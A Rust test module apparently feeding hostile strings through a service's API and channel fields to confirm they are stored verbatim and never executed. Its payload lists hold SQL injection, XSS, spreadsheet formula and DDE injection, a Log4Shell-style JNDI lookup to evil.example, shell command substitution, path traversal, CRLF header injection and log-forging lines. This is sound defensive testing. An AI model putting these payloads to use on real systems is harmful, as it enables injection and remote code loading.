//! Hostile text through every field: of every endpoint that the OpenAPI document names, and of what a
//! channel brings. It is stored and given back as it is, as JSON; it never becomes SQL, a header, a
//! line of the log or markup; and nothing of it makes the host fail.
//!
//! Deliberately absent: slow clients and too many of them, which `operations` has.

pub mod support;

#[path = "injection/channel.rs"]
mod channel;
#[path = "injection/document.rs"]
mod document;
#[path = "injection/endpoints.rs"]
mod endpoints;
#[path = "injection/limits.rs"]
mod limits;

use std::time::Duration;

const SOON: Duration = Duration::from_secs(60);
/// One caller asks fast here: limits of rate have tests of their own (`operations`).
const TOWN: &str = "[limits]\nrequests-per-second = 100000\nrequest-burst = 100000\n\
    [[inbox]]\nname = \"town\"\nplugin = \"channel-sample\"\n";
/// In every hostile text: a log that has it has said too much.
const MARK: &str = "zq7mark";

/// Texts that have hurt others.
fn hostile() -> Vec<String> {
    [
        // SQL
        "zq7mark'; DROP TABLE message; --",
        "zq7mark\" OR \"1\"=\"1",
        "zq7mark\\'; DELETE FROM contact; --",
        "zq7mark') UNION SELECT hash FROM audit_event --",
        "zq7mark%_$1?:name",
        // Markup
        "<script>alert('zq7mark')</script>",
        "zq7mark\"><img src=x onerror=alert(1)>",
        "</title><svg/onload=alert('zq7mark')>",
        "javascript:alert('zq7mark')",
        // Spreadsheets
        "=HYPERLINK(\"http://evil.example/?zq7mark\")",
        "@SUM(1+1)*cmd|' /C calc'!zq7mark",
        // Templates and shells
        "${jndi:ldap://evil.example/zq7mark}{{7*7}}%s%n",
        "$(touch zq7mark)`id`|;&",
        "../../../../etc/zq7mark",
        // Unicode that turns, hides or is large
        "zq7mark \u{202e}desrever\u{2066} \u{200b}\u{feff}",
        "zq7mark \u{1f9d1}\u{200d}\u{1f4bb} \u{10ffff}\u{fdd0}",
    ]
    .map(str::to_owned)
    .to_vec()
}

/// Texts with control characters, which may be refused or lose them.
fn controls() -> Vec<String> {
    [
        "zq7mark\r\nx-evil: 1\r\n\r\n<html>",
        "zq7mark\n2026-01-01T00:00:00Z ERROR all is lost",
        "zq7mark\u{1b}[2J\u{1b}[31mred\u{7}",
        "zq7mark\u{0}nul",
        "zq7mark\u{85}\u{2028}\u{2029}lines",
    ]
    .map(str::to_owned)
    .to_vec()
}
